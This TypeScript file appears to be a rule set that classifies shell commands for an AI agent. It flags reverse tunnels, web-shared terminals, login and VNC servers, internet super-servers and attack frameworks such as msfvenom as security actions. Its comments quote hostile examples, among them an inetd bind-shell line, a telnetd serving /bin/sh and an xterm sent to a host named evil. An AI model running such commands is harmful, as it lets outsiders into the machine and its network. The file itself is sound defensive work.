/**
 * Remote access (docs/adr/0307): programs whose purpose is to let another host into this machine or its network,
 * or to carry traffic past the network's controls. A reverse or pivoting tunnel (`chisel client … R:socks`, frp,
 * ligolo, DNS tunnels, sshuttle), a terminal shared over the web or a relay (gotty, ttyd, tmate, upterm) and a
 * payload or handler framework (msfvenom, msfconsole) are SECURITY whatever their arguments: no ordinary task
 * needs one, and the dev-server tunnels an ordinary task does use (ngrok http, cloudflared) are in publication.ts.
 */
import { fx, type Program, type Rule } from "./types.ts";

const REMOTE_ACCESS_FX = fx("SECURITY", ["write_external", "read_external", "execute"], "network", "remote-access");
const READ = fx("READ", ["read_local"], "network", "remote-access");
/** `sshd -t`/`-T` test and print the configuration; `-V` the version: nothing listens. */
const CONFIG_CHECK: Rule = { flag: ["-t", "-T", "-V"], then: READ, paths: {} };
/** An X display that is not this machine's own (`:0`, `unix:0`, `localhost:10`): the window, and its shell, go there. */
const REMOTE_DISPLAY = /^(?!(?:unix|localhost|127(?:\.\d+){3})?:\d)./i;

const OFFENSIVE = fx("SECURITY", ["write_external", "execute"], "network", "remote-access", "offensive");

export const REMOTE_ACCESS: readonly Program[] = [
  {
    names: [
      "chisel",
      "frpc",
      "frps",
      "rathole",
      "ligolo",
      "ligolo-ng",
      "ligolo-agent",
      "ligolo-proxy",
      "iodine",
      "iodined",
      "dnscat",
      "dnscat2",
      "dns2tcp",
      "sshuttle",
      "gost",
      "revsocks",
      "ptunnel",
      "ptunnel-ng",
      "hans",
      "pwncat-cs",
      // A websocket tunnel (`wstunnel client -R tcp://2222:localhost:22 wss://H`): a local port out on H (ADR 0663).
      "wstunnel",
    ],
    base: REMOTE_ACCESS_FX,
  },
  {
    names: [
      "gotty",
      "ttyd",
      "wetty",
      "shellinaboxd",
      "shellinabox",
      "tmate",
      "upterm",
      "sshx",
      "teleconsole",
      "tty-share",
      "wssh",
      "webssh",
      "sshwifty",
    ],
    base: REMOTE_ACCESS_FX,
  },
  // Login and desktop servers (docs/adr/0360): started by an agent they open a shell or the screen to whoever
  // reaches the port (`sshd -p 2222`, `busybox telnetd -l /bin/sh`, `x11vnc -nopw`); an encrypting relay
  // (`stunnel CONF`) carries whatever its config names past the network's controls.
  {
    names: ["sshd", "dropbear", "telnetd", "in.telnetd", "utelnetd", "rlogind", "in.rlogind", "rshd", "in.rshd"],
    base: REMOTE_ACCESS_FX,
    rules: [CONFIG_CHECK],
  },
  {
    names: [
      "x11vnc",
      "vncserver",
      "tigervncserver",
      "tightvncserver",
      "x0vncserver",
      "x0tigervncserver",
      "Xvnc",
      "wayvnc",
      "xrdp",
      "winvnc",
      "stunnel",
      "stunnel4",
      "stunnel5",
      "rinetd",
      "redir",
    ],
    base: REMOTE_ACCESS_FX,
  },
  // Servers whose purpose is to run a program for whoever connects (docs/adr/0663): the internet super-servers
  // (`inetd CONF`, `xinetd -f CONF`: a line `9001 stream tcp nowait u /bin/sh sh -i` is a bind shell), the UCSPI
  // and ipsvd launchers (`tcpserver 0 9001 PROG`, `tcpsvd`), and webhook, which runs the command a hook file names
  // with the request's fields as its arguments. Only their version and help pages pass.
  {
    names: [
      ...["inetd", "xinetd", "rlinetd", "webhook", "tcpserver", "sslserver", "tcpsvd", "udpsvd"],
      ...["s6-tcpserver", "s6-tcpserver4", "s6-tcpserver6", "s6-tlsserver"],
    ],
    base: REMOTE_ACCESS_FX,
    rules: [{ flag: ["-version", "--version", "-v", "-V"], maxWords: 0, then: READ, paths: {} }],
  },
  // A terminal shown on another machine's X server: `xterm -display evil:1` hands its shell there.
  {
    names: ["xterm", "uxterm", "rxvt", "urxvt", "aterm", "eterm", "Eterm", "mlterm"],
    values: ["-display", "-d", "-e", "-geometry", "-g", "-fn", "-fa", "-title", "-T", "-n", "-name", "-class"],
    base: fx("WRITE", ["execute"], "terminal"),
    rules: [{ optionText: { "-display": REMOTE_DISPLAY, "-d": REMOTE_DISPLAY }, then: REMOTE_ACCESS_FX, paths: {} }],
  },
  { names: ["msfvenom", "msfconsole", "msfpc", "veil", "sliver-server", "sliver-client"], base: OFFENSIVE },
];
